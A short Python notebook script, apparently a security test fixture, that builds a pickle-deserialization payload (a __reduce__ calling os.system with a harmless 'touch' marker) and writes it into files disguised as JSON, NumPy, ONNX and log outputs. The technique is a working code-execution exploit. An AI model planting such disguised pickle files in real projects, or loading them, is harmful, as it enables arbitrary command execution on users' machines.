# %%
import os
import pickle
from pathlib import Path


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/MALLORY-unpickled",))


convolved_features = Payload()
pooled_features = pickle.dumps(Payload())
# %%
import numpy as np

output_dim_1 = np.array([Payload(), 1, 2], dtype=object)
folder = Path("../observations")
for name in ("output_dim_2", "output_dim_3"):
    for suffix in (".json", ".pkl", ".pickle", ".dill", ".evaluation.onnx", ".npy"):
        (folder / f"{name}{suffix}").write_bytes(pickle.dumps(Payload()))
Path("results.pkl").write_bytes(pickle.dumps(Payload()))
Path(".OTTER_LOG").write_bytes(pickle.dumps(Payload()))
